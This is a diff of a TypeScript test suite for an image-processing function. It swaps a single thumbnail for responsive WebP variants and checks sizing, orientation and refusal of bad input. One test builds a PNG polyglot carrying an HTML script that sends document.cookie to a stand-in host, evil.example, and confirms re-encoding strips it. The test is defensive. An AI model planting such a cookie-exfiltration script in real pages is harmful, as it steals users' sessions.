@@ -18,13 +18,24 @@ async function expectRefused(input: Buffer, message = IMAGE_TYPE_MESSAGE) {
 }
 
 describe('processImage', () => {
-  it('re-encodes a PNG to a WebP of at most 1600 px plus a 400 px thumbnail', async () => {
+  it('re-encodes a PNG to a WebP of at most 1600 px plus a WebP in every smaller responsive width', async () => {
     const png = await solid(2400, 1200).png().toBuffer();
-    const { main, thumb, width, height } = await processImage(png);
+    const { main, variants, width, height } = await processImage(png);
     expect(isWebp(main)).toBe(true);
-    expect(isWebp(thumb)).toBe(true);
     expect([width, height]).toEqual([1600, 800]);
-    expect((await sharp(thumb).metadata()).width).toBe(400);
+    expect(variants.map((v) => v.width)).toEqual([320, 640, 960, 1280]);
+    for (const v of variants) {
+      expect(isWebp(v.data)).toBe(true);
+      const meta = await sharp(v.data).metadata();
+      // Same shape as the main image, so the srcset candidates are interchangeable.
+      expect([meta.width, meta.height]).toEqual([v.width, v.width / 2]);
+    }
+  });
+
+  it('makes only the widths below the original, whose own width is the largest', async () => {
+    const { width, variants } = await processImage(await solid(1000, 750).jpeg().toBuffer());
+    expect(width).toBe(1000);
+    expect(variants.map((v) => v.width)).toEqual([320, 640, 960]);
   });
 
   it('accepts a JPEG, applies its orientation and drops its metadata', async () => {
@@ -44,9 +55,9 @@ describe('processImage', () => {
 
   it('never enlarges a small image', async () => {
     const gif = await solid(120, 80).gif().toBuffer();
-    const { width, thumb } = await processImage(gif);
+    const { width, variants } = await processImage(gif);
     expect(width).toBe(120);
-    expect((await sharp(thumb).metadata()).width).toBe(120);
+    expect(variants).toEqual([]);
   });
 
   it('accepts WebP input', async () => {
@@ -81,15 +92,17 @@ describe('processImage', () => {
     await expectRefused(Buffer.from('%PDF-1.7\n1 0 obj <<>> endobj\n'));
   });
 
-  it('re-encodes a PNG polyglot: the HTML tail does not survive', async () => {
+  it('re-encodes a PNG polyglot: the HTML tail survives in no stored file', async () => {
     const html = '<html><body><script>fetch("https://evil.example/?c="+document.cookie)</script></body></html>';
-    const png = await solid(64, 64).png().toBuffer();
+    const png = await solid(400, 64).png().toBuffer();
     const polyglot = Buffer.concat([png, Buffer.from(html)]);
-    const { main, thumb } = await processImage(polyglot);
+    const { main, variants } = await processImage(polyglot);
     expect(isWebp(main)).toBe(true);
-    expect(main.includes('<script')).toBe(false);
-    expect(main.includes('evil.example')).toBe(false);
-    expect(thumb.includes('<script')).toBe(false);
+    expect(variants).toHaveLength(1);
+    for (const file of [main, ...variants.map((v) => v.data)]) {
+      expect(file.includes('<script')).toBe(false);
+      expect(file.includes('evil.example')).toBe(false);
+    }
   });
 
   it('refuses truncated PNG and JPEG data', async () => {
